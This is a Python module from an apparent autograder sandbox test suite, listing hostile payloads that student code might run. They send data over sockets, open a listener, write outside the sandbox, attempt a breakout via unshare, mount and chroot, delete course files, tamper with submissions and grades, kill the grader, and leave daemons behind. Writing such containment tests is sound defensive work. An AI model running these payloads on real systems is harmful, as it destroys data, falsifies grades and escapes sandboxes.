"""Attempts to do harm: the network, other people's files, other processes.

Each harms only what the suite has made for it: a course, a file, a process.
"""

from tools.attack.attack import Attack

__all__ = ["HARM"]


def _harm(says, source, body=""):
    return Attack(says, "harm", source, body)


_MINE = '''\
import glob
import os
import signal


def of_this_run():
    """Return the other processes of this run, never any other one."""
    for path in glob.glob("/proc/[0-9]*"):
        try:
            environment = open(path + "/environ", "rb").read()
        except OSError:
            continue
        if b"@RUN@" in environment and int(path[6:]) != os.getpid():
            yield int(path[6:])
'''

HARM = {
    "calls-out": _harm(
        "connects to a listener over the network",
        "import socket\n\nwith socket.create_connection(('127.0.0.1', int('@PORT@')), 3) as one:\n"
        "    one.sendall(b'@NAME@')\n",
    ),
    "calls-out-from-a-test": _harm(
        "sends what a test hands to it over the network",
        "",
        "import socket\n\nwith socket.create_connection(('127.0.0.1', int('@PORT@')), 3) as one:\n"
        "    one.sendall(('@NAME@ ' + str(args)).encode())\nraise ValueError",
    ),
    "calls-a-hidden-socket": _harm(
        "connects to a listener by a Unix socket without a file",
        "import socket\n\nwith socket.socket(socket.AF_UNIX) as one:\n    one.settimeout(3)\n"
        "    one.connect('\\0@RUN@')\n    one.sendall(b'@NAME@')\n",
    ),
    "listens": _harm(
        "lets others in, for ten seconds",
        "import socket\nimport threading\nimport time\n\n\ndef serve(end):\n"
        "    with socket.create_server(('127.0.0.1', int('@DOOR@'))) as door:\n        door.settimeout(1)\n"
        "        while time.monotonic() < end:\n            try:\n                one, _ = door.accept()\n"
        "            except TimeoutError:\n                continue\n            with one:\n"
        "                one.sendall(b'@NAME@')\n\n\n"
        "threading.Thread(target=serve, args=(time.monotonic() + 10,), daemon=True).start()\n"
        "time.sleep(1)\n",
    ),
    "writes-outside": _harm(
        "writes into a file elsewhere",
        "with open('@OUTSIDE@', 'a') as file:\n    file.write('@NAME@')\n",
    ),
    "breaks-out": _harm(
        "asks the kernel for other rights and another root first, then writes into a file elsewhere",
        "import ctypes\nimport os\n\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for flags in (0x10000000, 0x00020000):\n    if os.getpid() < 10:\n        libc.unshare(flags)\n"
        "        libc.mount(b'proc', b'/proc', b'proc', 0, None)\n"
        "        libc.mount(b'none', b'/', None, 0x1020, None)\n        libc.chroot(b'/proc/1/root')\n"
        "for root in ('/proc/1/root', '/proc/1/cwd/../../../../../..', ''):\n    try:\n"
        "        with open(root + '@OUTSIDE@', 'a') as file:\n            file.write('@NAME@')\n"
        "    except OSError:\n        continue\n",
    ),
    "deletes-the-course": _harm(
        "deletes the course",
        "import os\nimport shutil\n\nfor name in ('solutions', 'notebooks', 'submitted', 'autograded'):\n"
        "    shutil.rmtree('@COURSE@/' + name, ignore_errors=True)\n"
        "for name in ('gradebook.db', 'nbgrader_config.py'):\n    os.path.exists('@COURSE@/' + name) "
        "and os.unlink('@COURSE@/' + name)\n",
    ),
    "changes-submissions": _harm(
        "empties what others handed in",
        "import glob\n\nfor name in ('max', 'zoe'):\n"
        "    for path in glob.glob(f'@COURSE@/submitted/{name}/*/*.ipynb'):\n"
        "        text = open(path).read()\n        open(path, 'w').write(text.replace('return', 'pass #'))\n",
    ),
    "changes-grades": _harm(
        "sets everybody's points in the gradebook",
        "import os\nimport sqlite3\n\nif os.path.exists('@COURSE@/gradebook.db'):\n"
        "    with sqlite3.connect('@COURSE@/gradebook.db', timeout=5) as gradebook:\n"
        "        gradebook.execute('UPDATE grade SET auto_score = 0.125, manual_score = 0.125')\n",
    ),
    "changes-solutions": _harm(
        "changes solutions and release",
        "import glob\n\nfor path in glob.glob('@COURSE@/*/practical1/*.ipynb'):\n"
        "    with open(path, 'a') as file:\n        file.write('\\n')\n",
    ),
    "signals": _harm(
        "ends another process", "import os\nimport signal\n\nos.kill(int('@PID@'), signal.SIGTERM)\n"
    ),
    "ends-the-grader": _harm(
        "ends all other processes of this run",
        f"{_MINE}\n\nfor pid in (os.getppid(), *of_this_run()):\n"
        "    if pid == 1 or pid in set(of_this_run()):\n        try:\n"
        "            if pid != 1 or len(glob.glob('/proc/[0-9]*')) < 10:\n"
        "                os.kill(pid, signal.SIGTERM)\n        except OSError:\n            continue\n",
    ),
    "leaves-a-process": _harm(
        "leaves a program in a session of its own behind, for two minutes",
        "import subprocess\nimport sys\n\nsleeper = 'import time; time.sleep(120)  # left-@RUN@ @NAME@'\n"
        "subprocess.Popen([sys.executable, '-c', sleeper], start_new_session=True,\n"
        "                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
    ),
    "leaves-a-daemon": _harm(
        "leaves a copy of a test's process behind that nobody is the parent of, for two minutes",
        "import os\nimport time\n",
        "once = '@EXERCISE@' == 'bayes-rule' and not os.environ.get('left')\n"
        "if once and os.fork() == 0:\n    os.setsid()\n"
        "    if os.fork() == 0:\n        open('/proc/self/comm', 'w').write('@RUN@')\n"
        "        for number in range(200):\n            try:\n                os.close(number)\n"
        "            except OSError:\n                pass\n        time.sleep(120)\n    os._exit(0)\n"
        "os.environ['left'] = 'yes' if '@EXERCISE@' == 'bayes-rule' else ''\nraise ValueError",
    ),
}
"""Attacks by id."""
